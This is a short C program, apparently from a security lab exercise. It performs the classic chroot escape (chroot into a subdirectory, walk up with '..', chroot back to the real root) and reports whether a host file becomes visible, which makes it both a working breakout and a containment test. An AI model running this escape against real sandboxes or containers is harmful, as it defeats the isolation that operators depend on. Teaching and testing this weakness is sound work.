/*
 * The classic chroot escape (lab 04). chroot(2) changes only where "/"
 * resolves for this process; it does not move the current directory. So:
 *   1. chroot into a subdirectory, keeping our cwd OUTSIDE the new root;
 *   2. chdir("..") until we reach the real root of the mount namespace
 *      (".." at a chroot's root stops there, but we are not under it);
 *   3. chroot(".") there: "/" is the host's again.
 * Needs CAP_SYS_CHROOT. Under pivot_root there is nothing above the new root
 * left in the mount namespace, so step 2 stops at the container's own "/".
 *
 * usage: breakout HOST_PATH   → exit 0 "escaped: …" if HOST_PATH is visible, 1 "contained: …" if not
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  const char *marker = argc > 1 ? argv[1] : "/etc/hostname";
  mkdir("/.breakout", 0700);
  if (chroot("/.breakout") != 0) { /* cwd stays where it was: outside the new root */
    perror("breakout: chroot(\"/.breakout\")");
    return 2;
  }
  for (int i = 0; i < 256; i++) {
    if (chdir("..") != 0) break;
  }
  if (chroot(".") != 0) {
    perror("breakout: chroot(\".\")");
    return 2;
  }
  if (access(marker, F_OK) == 0) {
    printf("escaped: the host's %s is visible\n", marker);
    return 0;
  }
  printf("contained: %s is not visible\n", marker);
  return 1;
}
